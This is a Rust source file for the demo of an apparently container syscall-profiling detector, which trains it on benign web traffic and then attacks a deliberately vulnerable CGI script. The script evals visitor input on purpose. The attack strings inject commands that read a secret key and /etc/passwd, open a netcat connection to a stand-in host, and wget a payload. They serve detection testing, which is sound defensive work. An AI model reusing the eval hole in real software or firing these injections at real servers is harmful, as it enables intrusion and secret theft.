//! The demo (README's first command, through `scripts/demo.sh`): a small web server with a
//! command-injection bug is learned under a private containerd until its profile converges and
//! is promoted to enforce; benign traffic then passes in silence and the attack is stopped.
//!
//! Everything is real: containerd, runc, the chaperone shim, seccomp notification, the SQLite
//! store. The image is built locally from Debian's static busybox (no registry is reachable).

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::time::{Duration, Instant};

use anyhow::{bail, Context, Result};
use chaperone_profiler::store::{Store, Summary};
use serde_json::Value;

use crate::containerd::{wait_for, Containerd, CHAPERONE};
use crate::say;

/// The demo image.
pub const IMAGE: &str = "chaperone.demo/web:1";
/// The profile the demo's containers learn into.
pub const PROFILE: &str = "demo-web";

/// The CGI script with the bug: the visitor's name goes through `eval`.
const GREET_CGI: &str = r#"#!/bin/sh
# Greets the visitor. The bug, on purpose: the name is passed to eval, so ';' runs commands.
echo "Content-Type: text/plain"
echo ""
name="${QUERY_STRING#name=}"
eval "echo Hello, $name"
"#;
const INDEX: &str =
    "<html><body><h1>chaperone demo shop</h1><a href=/about.html>about</a></body></html>\n";
const ABOUT: &str = "<html><body>We sell syscalls.</body></html>\n";
/// What the attacker is after.
pub const SECRET: &str = "sk_live_chaperone_demo_0123456789";

/// The chaperone config of the demo: learning converges by policy and moves to enforce; a
/// deviation kills the container. Its last table is `[filter]`.
pub const CONFIG: &str = r#"
action = "kill"

[model]
# Per-thread false-alarm target, below one in the number of held-out threads: the threshold
# extrapolates the tail of their highest window scores (docs/adr/0023).
target_far = 0.0001

[promotion]
min_containers = 3
min_events = 5000
max_new_per_10k = 20.0
window_events = 5000
to = "enforce"

[filter]
# The web server forks per request, so process creation is hot and would run in the kernel:
# the shell the attack spawns would then fork `cat` unseen, and the kill (at the shell's next
# traced syscall) would race with `cat` reading the secret. Traced, the fork waits for the
# supervisor. Costs one notification per request (docs/adr/0009).
always_traced = ["clone", "clone3", "fork", "vfork"]
"#;

/// The benign workload: what users of the shop do.
const BENIGN: &[&str] = &[
    "/",
    "/about.html",
    "/cgi-bin/greet?name=alice",
    "/cgi-bin/greet?name=bob",
    "/",
    "/missing.html",
    "/cgi-bin/greet?name=carol",
    "/about.html",
    "/cgi-bin/greet?name=dave",
    "/cgi-bin/greet?name=erin",
];

/// The attack: a shell command through the CGI that reads the secret and calls out.
pub const ATTACK: &str =
    "/cgi-bin/greet?name=x;cat${IFS}/secret/api-key;nc${IFS}203.0.113.7${IFS}4444;#";

/// Demo settings.
#[derive(Debug, Clone)]
pub struct Options {
    /// The port the web server listens on (host network, 127.0.0.1).
    pub port: u16,
    /// Learning runs at most before giving up on convergence.
    pub max_learn_runs: usize,
    /// Benign reruns under enforce (each a fresh container).
    pub benign_runs: usize,
    /// Attack runs under enforce (each a fresh container).
    pub attack_runs: usize,
    /// Runs of each benign traffic variant ([`VARIANTS`]) and each injected command
    /// ([`ATTACK_VARIANTS`]) under enforce with the action `alert`, to count false alarms on
    /// traffic learning never saw and detections of attacks it was not built for (0: none).
    pub variation_runs: usize,
    /// The `[filter] hot_coverage` enforce runs with instead of the default (0: every
    /// syscall the profile learned is traced, none allowed in the kernel unseen).
    pub hot_coverage: Option<f64>,
}

impl Default for Options {
    fn default() -> Self {
        Self {
            port: 18_080,
            // Learning converged in 12 to 30 runs over 32 trials (the web server's syscall
            // order varies run to run); each run takes a fraction of a second.
            max_learn_runs: 60,
            benign_runs: 1,
            attack_runs: 1,
            variation_runs: 0,
            hot_coverage: None,
        }
    }
}

/// What the demo measured.
#[derive(Debug, Clone, Default)]
pub struct Outcome {
    /// Learning runs until the profile was promoted.
    pub learn_runs: usize,
    /// Events learned.
    pub events: u64,
    /// Benign reruns without any alert, and how many were run.
    pub benign_silent: (usize, usize),
    /// Attacks stopped (container killed, secret not returned), and how many were run.
    pub attacks_stopped: (usize, usize),
    /// The first attack's alert.
    pub alert: Option<Value>,
    /// False alarms on benign traffic variants, when they were run.
    pub variations: Vec<VariantOutcome>,
    /// Detections of injected commands other than the demo's, when they were run.
    pub attack_variations: Vec<VariantOutcome>,
}

impl Outcome {
    /// The story held: every benign run silent, and at least one attack run, every one
    /// stopped.
    pub fn held(&self) -> bool {
        self.benign_silent.0 == self.benign_silent.1
            && self.attacks_stopped.1 > 0
            && self.attacks_stopped.0 == self.attacks_stopped.1
    }
}

fn step(text: &str) -> Result<()> {
    say!("\n==> {text}")
}

/// One HTTP/1.0 GET; `Err` when the connection fails or is cut.
pub fn get(port: u16, path: &str) -> Result<String> {
    // One write, as curl sends it: `write!` on the socket sends each piece of the format on
    // its own, and when they arrive apart the server reads its request in several reads, a
    // sequence learning rarely sees (it made an enforced server's benign request an alarm).
    send(port, &[get_request(path)])
}

/// The request the demo's clients send for `path`, as curl would.
fn get_request(path: &str) -> String {
    format!("GET {path} HTTP/1.0\r\nHost: localhost\r\n\r\n")
}

/// Sends `pieces` on one connection, each in its own write, [`PIECE_GAP`] apart, and returns
/// the response; `Err` when the connection fails or is cut, or the answer is not HTTP.
fn send(port: u16, pieces: &[impl AsRef<[u8]>]) -> Result<String> {
    let mut s = TcpStream::connect(("127.0.0.1", port))?;
    s.set_read_timeout(Some(Duration::from_secs(10)))?;
    s.set_nodelay(true)?;
    for (n, piece) in pieces.iter().enumerate() {
        if n > 0 {
            // A client's pace, not a wait for a condition: the pieces must arrive apart.
            std::thread::sleep(PIECE_GAP);
        }
        s.write_all(piece.as_ref())?;
    }
    let mut body = String::new();
    s.read_to_string(&mut body)?;
    if !body.starts_with("HTTP/1.") {
        bail!("no HTTP response: {body:?}");
    }
    Ok(body)
}

/// How long a slow client takes between the pieces of its request.
const PIECE_GAP: Duration = Duration::from_millis(20);

/// Configures chaperone for the demo and builds the web image.
pub fn prepare(ctrd: &Containerd) -> Result<()> {
    ctrd.set_chaperone_config(CONFIG)?;
    step(&format!("building the web image {IMAGE} (busybox httpd + a CGI script with a command-injection bug)"))?;
    ctrd.import_image(
        IMAGE,
        &[
            ("www/index.html", INDEX.as_bytes(), 0o644),
            ("www/about.html", ABOUT.as_bytes(), 0o644),
            ("www/cgi-bin/greet", GREET_CGI.as_bytes(), 0o755),
            ("secret/api-key", SECRET.as_bytes(), 0o600),
        ],
    )
}

/// Sends the benign workload; every request must be answered.
pub fn benign_traffic(port: u16) -> Result<()> {
    get_all(port, BENIGN.iter().copied())
}

/// GETs each of `paths` in turn; every request must be answered.
fn get_all<'a>(port: u16, paths: impl IntoIterator<Item = &'a str>) -> Result<()> {
    send_each(port, paths, |path| vec![get_request(path)])
}

/// Sends one request for each of `paths` in turn, in the pieces `request` makes of it; every
/// request must be answered.
fn send_each<'a>(
    port: u16,
    paths: impl IntoIterator<Item = &'a str>,
    request: impl Fn(&str) -> Vec<String>,
) -> Result<()> {
    for path in paths {
        send(port, &request(path)).with_context(|| format!("benign request {path}"))?;
    }
    Ok(())
}

/// Benign traffic the demo's learning never sent, as users of a real shop would send it: the
/// variants `--variation-runs` measures false alarms on.
#[derive(Debug)]
pub struct Variant {
    /// Its name in the report.
    pub name: &'static str,
    /// What it changes, for the report.
    pub what: &'static str,
    /// Sends it to the server on the port; `Err` when a request is not answered.
    pub send: fn(u16) -> Result<()>,
}

/// Headers a browser sends with every request.
const BROWSER_HEADERS: &str = "Host: localhost\r\nUser-Agent: Mozilla/5.0 (X11; Linux \
    x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\nAccept: text/html,application/xhtml+xml,\
    application/xml;q=0.9,*/*;q=0.8\r\nAccept-Language: en-GB,en;q=0.5\r\nAccept-Encoding: \
    gzip, deflate\r\nConnection: close\r\n\r\n";

/// The variants, the learned traffic itself first as the control.
pub const VARIANTS: &[Variant] = &[
    Variant {
        name: "same",
        what: "the learned requests, as learned (the control)",
        send: benign_traffic,
    },
    Variant {
        name: "reordered",
        what: "the learned requests in reverse order",
        send: |port| get_all(port, BENIGN.iter().rev().copied()),
    },
    Variant {
        name: "other-names",
        what: "the CGI greeting names it never saw, 1 to 200 characters",
        send: |port| {
            let long = format!("/cgi-bin/greet?name={}", "a".repeat(200));
            get_all(
                port,
                [
                    "/cgi-bin/greet?name=x",
                    "/cgi-bin/greet?name=Zoe",
                    "/cgi-bin/greet?name=user42",
                    "/cgi-bin/greet?name=maximilian-alexander-the-third",
                    long.as_str(),
                ],
            )
        },
    },
    Variant {
        name: "other-paths",
        what: "pages it never requested: /index.html, a query, a missing image, a CGI without its query",
        send: |port| {
            get_all(
                port,
                [
                    "/index.html",
                    "/about.html?ref=home",
                    "/img/logo.png",
                    "/cgi-bin/greet",
                    "/",
                ],
            )
        },
    },
    Variant {
        name: "head",
        what: "HEAD requests instead of GET",
        send: |port| {
            send_each(port, ["/", "/about.html"], |path| {
                vec![format!("HEAD {path} HTTP/1.0\r\nHost: localhost\r\n\r\n")]
            })
        },
    },
    Variant {
        name: "browser-headers",
        what: "the learned requests with a browser's headers (about 300 bytes)",
        send: |port| {
            send_each(port, BENIGN.iter().copied(), |path| {
                vec![format!("GET {path} HTTP/1.1\r\n{BROWSER_HEADERS}")]
            })
        },
    },
    Variant {
        name: "slow-client",
        what: "each request line and its headers in two writes, 20 ms apart",
        send: |port| {
            send_each(port, BENIGN.iter().copied(), |path| {
                vec![
                    format!("GET {path} HTTP/1.0\r\n"),
                    "Host: localhost\r\n\r\n".to_owned(),
                ]
            })
        },
    },
    Variant {
        name: "concurrent",
        what: "four clients sending the learned requests at once",
        send: |port| {
            std::thread::scope(|scope| {
                let clients: Vec<_> = (0..4)
                    .map(|_| scope.spawn(move || benign_traffic(port)))
                    .collect();
                clients
                    .into_iter()
                    .try_for_each(|c| c.join().unwrap_or_else(|_| bail!("a client panicked")))
            })
        },
    },
    Variant {
        name: "longer",
        what: "the learned requests five times over (50 requests)",
        send: |port| (0..5).try_for_each(|_| benign_traffic(port)),
    },
];

/// Sends the injected command `path` carries and takes whatever the server answers.
fn inject(port: u16, path: &str) -> Result<()> {
    send(port, &[get_request(path)]).map(|_| ())
}

/// Commands injected through the CGI's bug, as an attacker would try them: the detections
/// `--variation-runs` measures. Network calls go to 127.0.0.1:9, refused at once, so that under
/// the action `alert` no run waits on a connect. The last one runs only shell builtins that
/// print, which the CGI's shell does while learning too: it is what a learned profile cannot
/// tell from normal.
pub const ATTACK_VARIANTS: &[Variant] = &[
    Variant {
        name: "exfiltrate",
        what: "the demo's attack: cat the secret, then nc out",
        send: |port| {
            inject(
                port,
                "/cgi-bin/greet?name=x;cat${IFS}/secret/api-key;nc${IFS}127.0.0.1${IFS}9;#",
            )
        },
    },
    Variant {
        name: "read-secret",
        what: "cat the secret",
        send: |port| inject(port, "/cgi-bin/greet?name=x;cat${IFS}/secret/api-key;#"),
    },
    Variant {
        name: "id",
        what: "run id",
        send: |port| inject(port, "/cgi-bin/greet?name=x;id;#"),
    },
    Variant {
        name: "list-root",
        what: "ls /",
        send: |port| inject(port, "/cgi-bin/greet?name=x;ls${IFS}/;#"),
    },
    Variant {
        name: "passwd",
        what: "cat /etc/passwd",
        send: |port| inject(port, "/cgi-bin/greet?name=x;cat${IFS}/etc/passwd;#"),
    },
    Variant {
        name: "download",
        what: "wget a payload",
        send: |port| {
            inject(
                port,
                "/cgi-bin/greet?name=x;wget${IFS}-q${IFS}-O-${IFS}http://127.0.0.1:9/x;#",
            )
        },
    },
    Variant {
        name: "builtin-read",
        what: "read the secret with the shell's own read and echo, no new process",
        send: |port| {
            inject(
                port,
                "/cgi-bin/greet?name=x;read${IFS}k</secret/api-key;echo${IFS}$k;#",
            )
        },
    },
    Variant {
        name: "builtin-echo",
        what: "the shell's own echo, of its PATH: only what learning saw",
        send: |port| {
            inject(
                port,
                "/cgi-bin/greet?name=x;echo${IFS}pwned;echo${IFS}$PATH;#",
            )
        },
    },
];

/// What one variant's runs raised.
#[derive(Debug, Clone, Default)]
pub struct VariantOutcome {
    /// The variant's name.
    pub name: &'static str,
    /// Runs, and runs with at least one alert.
    pub runs: usize,
    pub alerted: usize,
    /// Alerts in all runs.
    pub alerts: usize,
    /// The syscalls the alerts named.
    pub syscalls: std::collections::BTreeSet<String>,
    /// Runs in which a request was not answered or the server stopped.
    pub broken: usize,
}

/// Runs each of `variants` `opts.variation_runs` times under the promoted profile with the
/// action `alert`, each run a fresh container, and counts the alerts; `title` heads the report.
fn variations(
    ctrd: &Containerd,
    opts: &Options,
    variants: &[Variant],
    title: &str,
) -> Result<Vec<VariantOutcome>> {
    step(&format!(
        "{title}: {} run(s) of each, each a fresh container, enforce with action alert (the server keeps running)",
        opts.variation_runs
    ))?;
    let mut outcomes = Vec::new();
    for variant in variants {
        let mut outcome = VariantOutcome {
            name: variant.name,
            ..VariantOutcome::default()
        };
        for run in 1..=opts.variation_runs {
            let id = format!("web-{}-{run}", variant.name);
            let extra = ["--annotation", "chaperone.io/action=alert"];
            let Served {
                sent,
                running,
                alerts,
            } = serve_once(ctrd, &id, opts.port, &extra, variant.send)?;
            if let Err(e) = &sent {
                say!("      run {run}: {e:#}")?;
            }
            if let Some(first) = alerts.first() {
                say!(
                    "      run {run}: {}",
                    first["output"].as_str().unwrap_or_default()
                )?;
            }
            outcome.runs += 1;
            outcome.alerted += usize::from(!alerts.is_empty());
            outcome.alerts += alerts.len();
            outcome.broken += usize::from(sent.is_err() || !running);
            outcome.syscalls.extend(
                alerts
                    .iter()
                    .filter_map(|a| a["output_fields"]["evt.type"].as_str())
                    .map(str::to_owned),
            );
        }
        let at: Vec<&str> = outcome.syscalls.iter().map(String::as_str).collect();
        let at = if at.is_empty() {
            String::new()
        } else {
            format!(" (at {})", at.join(", "))
        };
        let broken = if outcome.broken > 0 {
            format!(", {} run(s) BROKEN", outcome.broken)
        } else {
            String::new()
        };
        say!(
            "    {:<16} {} of {} run(s) alerted, {} alert(s){at}{broken}: {}",
            outcome.name,
            outcome.alerted,
            outcome.runs,
            outcome.alerts,
            variant.what
        )?;
        outcomes.push(outcome);
    }
    Ok(outcomes)
}

/// What a fresh server container did with the traffic it was sent.
struct Served {
    /// `Err` when a request was not answered.
    sent: Result<()>,
    /// Whether the server still ran once the traffic was sent.
    running: bool,
    /// What its supervisors raised.
    alerts: Vec<Value>,
}

/// Starts the server as container `id` with `extra` `ctr run` flags, sends it `traffic`, and
/// stops it; the alerts are read once the container is deleted, when its supervisors have
/// written all they raised.
fn serve_once(
    ctrd: &Containerd,
    id: &str,
    port: u16,
    extra: &[&str],
    traffic: impl FnOnce(u16) -> Result<()>,
) -> Result<Served> {
    let server = Server::start(ctrd, id, port, extra)?;
    let sent = traffic(port);
    let running = ctrd.task_status(id).as_deref() == Some("RUNNING");
    server.stop()?;
    Ok(Served {
        sent,
        running,
        alerts: alerts_of(ctrd, id)?,
    })
}

/// Learns the web server, one container per run, until the policy promotes its profile;
/// returns the runs and the events learned.
pub fn learn(ctrd: &Containerd, opts: &Options) -> Result<(usize, u64)> {
    step("learning: each run starts the server under chaperone, sends benign traffic, stops it")?;
    let policy = chaperone_config::Config::parse(CONFIG)?
        .promotion
        .context("the demo's config has a promotion policy")?;
    for run in 1..=opts.max_learn_runs {
        let id = format!("web-learn-{run}");
        let server = Server::start(ctrd, &id, opts.port, &[])?;
        benign_traffic(opts.port)?;
        server.stop()?;
        let s = summary(ctrd)?;
        // The figure the promotion policy compares.
        let rate = Store::open(&ctrd.db_path())?.new_rate(PROFILE, policy.window_events)?;
        say!(
            "    run {run:>2}: {:>6} events, {:>4} n-grams, {:>6} new n-grams per 10k events in the newest {} (promoted below {}), mode {}",
            s.events,
            s.grams,
            rate.map_or_else(|| "-".to_owned(), |r| format!("{:.1}", r * 10_000.0)),
            policy.window_events,
            policy.max_new_per_10k,
            s.mode.map_or("learn", |m| m.as_str()),
        )?;
        if s.mode == Some(chaperone_config::Mode::Enforce) {
            say!(
                "    converged: the promotion policy switched profile {PROFILE} to enforce (action: kill)"
            )?;
            return Ok((run, s.events));
        }
    }
    let s = summary(ctrd)?;
    let kept = std::env::temp_dir().join(format!("chaperone-demo-{}.db", std::process::id()));
    if std::fs::copy(ctrd.db_path(), &kept).is_ok() {
        say!(
            "    the profile store is kept for inspection: {}",
            kept.display()
        )?;
    }
    bail!(
        "the profile did not converge in {} runs: {s:?}",
        opts.max_learn_runs
    )
}

/// Runs the whole story on `ctrd` (whose shims are chaperone's).
pub fn run(ctrd: &Containerd, opts: &Options) -> Result<Outcome> {
    prepare(ctrd)?;
    if let Some(coverage) = opts.hot_coverage {
        // `[filter]` is CONFIG's last table.
        ctrd.set_chaperone_config(&format!("{CONFIG}hot_coverage = {coverage:?}\n"))?;
    }
    let mut outcome = Outcome::default();
    (outcome.learn_runs, outcome.events) = learn(ctrd, opts)?;

    step(&format!(
        "enforce: {} benign run(s), each a fresh container with the same traffic",
        opts.benign_runs
    ))?;
    for run in 1..=opts.benign_runs {
        let id = format!("web-benign-{run}");
        // Every request is sent, whether or not one before it was answered.
        let every = |port| {
            let answered = BENIGN.iter().filter(|p| get(port, p).is_ok()).count();
            if answered < BENIGN.len() {
                bail!("{answered} of {} requests answered", BENIGN.len());
            }
            Ok(())
        };
        let Served {
            sent,
            running,
            alerts,
        } = serve_once(ctrd, &id, opts.port, &[], every)?;
        let silent = sent.is_ok() && running && alerts.is_empty();
        say!(
            "    benign run {run:>2}: {} requests, {} alerts, server {}",
            BENIGN.len(),
            alerts.len(),
            if running { "running" } else { "STOPPED" }
        )?;
        for a in &alerts {
            say!("      alert: {}", a["output"].as_str().unwrap_or_default())?;
        }
        outcome.benign_silent.1 += 1;
        outcome.benign_silent.0 += usize::from(silent);
    }

    if opts.variation_runs > 0 {
        outcome.variations = variations(
            ctrd,
            opts,
            VARIANTS,
            "benign variation (every alert is a false alarm)",
        )?;
        outcome.attack_variations = variations(
            ctrd,
            opts,
            ATTACK_VARIANTS,
            "attack variation (a run with an alert is a detection)",
        )?;
    }

    step(&format!("attack: GET {ATTACK}"))?;
    say!("    (the CGI evals it: a shell runs cat /secret/api-key, then nc to 203.0.113.7:4444)")?;
    for run in 1..=opts.attack_runs {
        let id = format!("web-attack-{run}");
        let server = Server::start(ctrd, &id, opts.port, &[])?;
        let started = Instant::now();
        let response = get(opts.port, ATTACK);
        let leaked = response.as_ref().is_ok_and(|r| r.contains(SECRET));
        let stopped = wait_for(
            "the attacked container to stop",
            Duration::from_secs(15),
            || (ctrd.task_status(&id).as_deref() == Some("STOPPED")).then_some(()),
        )
        .is_ok();
        let alerts = alerts_of(ctrd, &id)?;
        say!(
            "    attack run {run:>2}: container {} after {:.0?}, secret {}, {} alert(s)",
            if stopped { "killed" } else { "STILL RUNNING" },
            started.elapsed(),
            if leaked { "LEAKED" } else { "not returned" },
            alerts.len()
        )?;
        if outcome.alert.is_none() {
            outcome.alert = alerts.first().cloned();
        }
        server.remove();
        outcome.attacks_stopped.1 += 1;
        outcome.attacks_stopped.0 += usize::from(stopped && !leaked && !alerts.is_empty());
    }
    if let Some(alert) = &outcome.alert {
        step("the alert (Falco format, also in the alert log)")?;
        print_alert(alert)?;
    }
    Ok(outcome)
}

fn print_alert(alert: &Value) -> Result<()> {
    let f = &alert["output_fields"];
    say!("    {}", alert["output"].as_str().unwrap_or_default())?;
    say!(
        "    priority: {}   rule: {}",
        alert["priority"],
        alert["rule"]
    )?;
    let window: Vec<&str> = f["chaperone.window"]
        .as_array()
        .map(|w| w.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default();
    let tail = window.len().saturating_sub(12);
    say!(
        "    last syscalls of the thread: ... {}",
        window[tail..].join(" ")
    )?;
    say!("    why (least likely transitions under the learned profile):")?;
    for t in f["chaperone.explanation"].as_array().into_iter().flatten() {
        say!(
            "      {:>14} -> {:<14} p = {:.2e}{}",
            t["from"].as_str().unwrap_or("(start)"),
            t["to"].as_str().unwrap_or("?"),
            t["probability"].as_f64().unwrap_or(f64::NAN),
            if t["never_seen"].as_bool() == Some(true) {
                "  (never seen while learning)"
            } else {
                ""
            }
        )?;
    }
    Ok(())
}

fn summary(ctrd: &Containerd) -> Result<Summary> {
    Store::open(&ctrd.db_path())?
        .summary(PROFILE)?
        .context("the profile is not in the store")
}

fn alerts_of(ctrd: &Containerd, id: &str) -> Result<Vec<Value>> {
    Ok(ctrd
        .alerts()?
        .into_iter()
        .filter(|a| a["output_fields"]["container.id"] == id)
        .collect())
}

/// A web server container; removed on drop.
#[derive(Debug)]
pub struct Server<'a> {
    ctrd: &'a Containerd,
    id: String,
}

impl<'a> Server<'a> {
    /// Starts the server as container `id` listening on `port`, with `extra` `ctr run` flags.
    pub fn start(ctrd: &'a Containerd, id: &str, port: u16, extra: &[&str]) -> Result<Self> {
        let listen = format!("127.0.0.1:{port}");
        // Another server on the port would answer in this one's place.
        if let Err(e) = TcpListener::bind(("127.0.0.1", port)) {
            bail!("cannot serve on {listen} ({e}): is another program using the port? (--port)");
        }
        let annotation = format!("chaperone.io/profile={PROFILE}");
        let mut args = vec!["run", "-d", "--net-host", "--runtime", CHAPERONE];
        args.extend(["--annotation", &annotation]);
        args.extend_from_slice(extra);
        args.extend([IMAGE, id, "httpd", "-f", "-p", &listen, "-h", "/www"]);
        ctrd.ctr_ok(&args)?;
        let server = Self {
            ctrd,
            id: id.to_owned(),
        };
        let exited = wait_for("the web server to listen", Duration::from_secs(15), || {
            if TcpStream::connect(("127.0.0.1", port)).is_ok() {
                return Some(false);
            }
            (ctrd.task_status(id).as_deref() == Some("STOPPED")).then_some(true)
        })
        .with_context(|| format!("containerd log:\n{}", tail(&ctrd.log())))?;
        if exited {
            bail!(
                "the web server {id} exited before it listened on {listen}; containerd log:\n{}",
                tail(&ctrd.log())
            );
        }
        Ok(server)
    }

    /// Stops the server (SIGKILL: httpd is pid 1 and has no SIGTERM handler) and deletes it;
    /// the shim stores what was learned before the delete returns.
    pub fn stop(self) -> Result<()> {
        self.ctrd
            .ctr_ok(&["tasks", "kill", "-s", "SIGKILL", &self.id])?;
        wait_for("the server to stop", Duration::from_secs(15), || {
            (self.ctrd.task_status(&self.id).as_deref() == Some("STOPPED")).then_some(())
        })?;
        self.ctrd.ctr_ok(&["tasks", "delete", &self.id])?;
        self.ctrd.ctr_ok(&["containers", "delete", &self.id])?;
        Ok(())
    }

    fn remove(&self) {
        self.ctrd.remove(&self.id);
    }
}

impl Drop for Server<'_> {
    fn drop(&mut self) {
        self.remove();
    }
}

fn tail(log: &str) -> String {
    let lines: Vec<&str> = log.lines().collect();
    lines[lines.len().saturating_sub(30)..].join("\n")
}

#[cfg(test)]
mod tests {
    use std::io::{BufRead, BufReader};
    use std::net::TcpListener;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::sync::Arc;

    use super::*;

    /// Answers every request on `listener` with an empty 200 once its headers have arrived,
    /// and counts the requests, by method.
    fn serve(listener: TcpListener, seen: Arc<(AtomicUsize, AtomicUsize)>) {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            let seen = Arc::clone(&seen);
            std::thread::spawn(move || {
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut line = String::new();
                reader.read_line(&mut line).unwrap();
                loop {
                    let mut header = String::new();
                    if reader.read_line(&mut header).unwrap() == 0 || header == "\r\n" {
                        break;
                    }
                }
                let counter = if line.starts_with("HEAD ") {
                    &seen.1
                } else {
                    &seen.0
                };
                counter.fetch_add(1, Ordering::Relaxed);
                stream.write_all(b"HTTP/1.0 200 OK\r\n\r\n").unwrap();
            });
        }
    }

    #[test]
    fn every_variant_sends_whole_requests_and_reads_their_answers() {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let seen = Arc::new((AtomicUsize::new(0), AtomicUsize::new(0)));
        let counts = Arc::clone(&seen);
        std::thread::spawn(move || serve(listener, counts));
        let mut sent = Vec::new();
        for v in VARIANTS {
            let before = (
                seen.0.load(Ordering::Relaxed),
                seen.1.load(Ordering::Relaxed),
            );
            (v.send)(port).unwrap_or_else(|e| panic!("{}: {e:#}", v.name));
            let after = (
                seen.0.load(Ordering::Relaxed),
                seen.1.load(Ordering::Relaxed),
            );
            sent.push((v.name, after.0 - before.0, after.1 - before.1));
        }
        let n = BENIGN.len();
        assert_eq!(
            sent,
            [
                ("same", n, 0),
                ("reordered", n, 0),
                ("other-names", 5, 0),
                ("other-paths", 5, 0),
                ("head", 0, 2),
                ("browser-headers", n, 0),
                ("slow-client", n, 0),
                ("concurrent", 4 * n, 0),
                ("longer", 5 * n, 0),
            ]
        );
        for v in ATTACK_VARIANTS {
            let before = seen.0.load(Ordering::Relaxed);
            (v.send)(port).unwrap_or_else(|e| panic!("{}: {e:#}", v.name));
            assert_eq!(seen.0.load(Ordering::Relaxed) - before, 1, "{}", v.name);
        }
    }

    #[test]
    fn an_answer_that_is_not_http_fails_the_request() {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        std::thread::spawn(move || {
            let (mut stream, _) = listener.accept().unwrap();
            let mut buf = [0_u8; 256];
            let _ = stream.read(&mut buf).unwrap();
            stream.write_all(b"SSH-2.0-OpenSSH\r\n").unwrap();
        });
        let e = get(port, "/").unwrap_err();
        assert!(format!("{e}").contains("no HTTP response"), "{e}");
    }
}
